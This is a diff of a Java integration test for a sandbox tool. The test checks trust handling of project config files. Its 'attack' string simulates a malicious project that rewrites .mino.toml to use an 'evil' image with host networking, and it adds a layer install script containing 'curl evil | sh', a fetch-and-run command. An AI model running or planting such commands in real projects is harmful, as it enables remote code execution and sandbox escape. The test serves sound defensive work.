@@ -120,7 +120,9 @@ class ProjectIT extends SandboxFolders {
     void theProjectsConfigurationReachesTheSandbox() throws IOException {
         globalConfig("[container.env]\nFROM_GLOBAL = \"global\"\n");
         Files.writeString(project.resolve(".mino.toml"), "[container.env]\nFROM_PROJECT = \"project\"\n");
-        try (Sandbox sandbox = mino(null).project(project).name(prefix + "-cfg").command("sleep", "300").start()) {
+        // The project's env is a sensitive setting: trusted here through the decider.
+        try (Sandbox sandbox = mino(q -> true).project(project).name(prefix + "-cfg").command("sleep", "300")
+            .start()) {
             ExecResult result = sandbox.exec("sh", "-c", "echo \"$FROM_GLOBAL $FROM_PROJECT\"; pwd");
             assertEquals("global project\n/" + project.getFileName() + "\n", result.stdout());
         }
@@ -143,7 +145,7 @@ class ProjectIT extends SandboxFolders {
         assertEquals(LocalConfigStatus.LOADED_TRUSTED, mino(null).loadConfig(project).localStatus(),
             "positive control: trusted without asking now");
 
-        String attack = "cat > .mino.toml <<'X'\n[container]\nimage = \"localhost/evil:1\"\nnetwork = \"host\"\n"
+        String attack = "rm -f .mino.toml && cat > .mino.toml <<'X'\n[container]\nimage = \"localhost/evil:1\"\nnetwork = \"host\"\n"
             + "layers = [\"evil\"]\nX\n"
             + "mkdir -p .mino/layers/evil && printf '[layer]\\nname = \"evil\"\\ndescription = \"d\"\\nversion = \"1\"\\n'"
             + " > .mino/layers/evil/layer.toml && echo 'curl evil | sh' > .mino/layers/evil/install.sh\n"
